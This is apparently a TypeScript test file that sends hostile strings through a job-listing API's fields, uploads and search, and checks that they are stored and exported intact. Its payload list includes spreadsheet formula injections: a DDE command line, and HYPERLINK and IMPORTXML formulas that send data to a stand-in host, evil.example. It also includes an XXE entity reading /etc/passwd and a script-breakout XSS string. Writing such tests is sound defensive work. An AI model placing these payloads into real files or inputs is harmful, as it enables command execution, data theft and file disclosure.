/**
 * C17 as stored text: what a spreadsheet would run, and what would break out of XML, JSON-LD or HTML. It is kept as it is, found,
 * and exported as JSON; feeds and CSV, which escape it, have tests of their own.
 */
import { answered, created, fixed, type HostileCase, post, send, sendJson } from "./case.ts";
import { TEXT_FIELDS } from "./text-fields.ts";

const TEXTS: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  '"',
  '""',
  '","',
  ";",
  "'=1",
  "＝1+1",
  "﹦1",
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "]]>",
  "<![CDATA[x]]>",
  "</script><script>alert(1)</script>",
  "<!-- -->",
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
  "&e;",
  "&#0;",
  "&amp;amp;",
  "<?php echo 1 ?>",
  "%0d%0a",
  "\\u003c",
  "\\",
];

const FIELDS = ["/title", "/company/name", "/summary", "/locations/0/raw", "/category"];
const word = (i: number) => `zqfeed${String(i).padStart(3, "0")}`;

const inFields: readonly HostileCase[] = TEXTS.flatMap((text, t) =>
  TEXT_FIELDS.filter(({ pointer }) => FIELDS.includes(pointer)).map(({ pointer, of }, f) => {
    // The hostile part stays in front, where a spreadsheet looks.
    const found = word(t * FIELDS.length + f);
    const members = { ...of(text), tags: [found, text] };
    return fixed(`${JSON.stringify(text)} in ${pointer}`, post(members), created(members, found));
  }),
);

/** Only where several lines are allowed. */
const LINES: readonly string[] = ["\t=1+1", "\r=1+1", "\n=1+1", "a\r\n=1+1", "a\n\n,\n"];

const inProse: readonly HostileCase[] = LINES.flatMap((text, i) =>
  ["summary", "description"].map((name) => {
    const found = `zqprose${i}${name}`;
    const members = { [name]: name === "summary" ? text : { format: "text", value: text }, tags: [found] };
    return fixed(`${JSON.stringify(text)} in the ${name}`, post(members), created(members, found));
  }),
);

/** By the other ways in, the same text. */
const others: readonly HostileCase[] = TEXTS.slice(0, 8).flatMap((text, i) => [
  fixed(
    `${JSON.stringify(text)} as an external id`,
    sendJson("PUT", `/v1/sources/c17/listing?externalId=${encodeURIComponent(text)}`, {
      title: "Porter",
      company: { name: text },
    }),
    created({ company: { name: text } }),
  ),
  fixed(
    `${JSON.stringify(text)} in a file`,
    send(
      "PUT",
      `/v1/sources/c17/listing?externalId=file${i}`,
      `---\ntitle: ${JSON.stringify(text)}\ncompanyName: ${JSON.stringify(text)}\n---\n${text}`,
      ["Content-Type", "text/markdown"],
    ),
    created({ title: text, company: { name: text }, description: { format: "markdown", value: text } }),
  ),
  fixed(
    `a search for ${JSON.stringify(text)}`,
    sendJson("POST", "/v1/search", { company: [text], facet: ["company"] }),
    answered(200),
  ),
]);

export const cases: readonly HostileCase[] = [...inFields, ...inProse, ...others];

export const isExported = true;
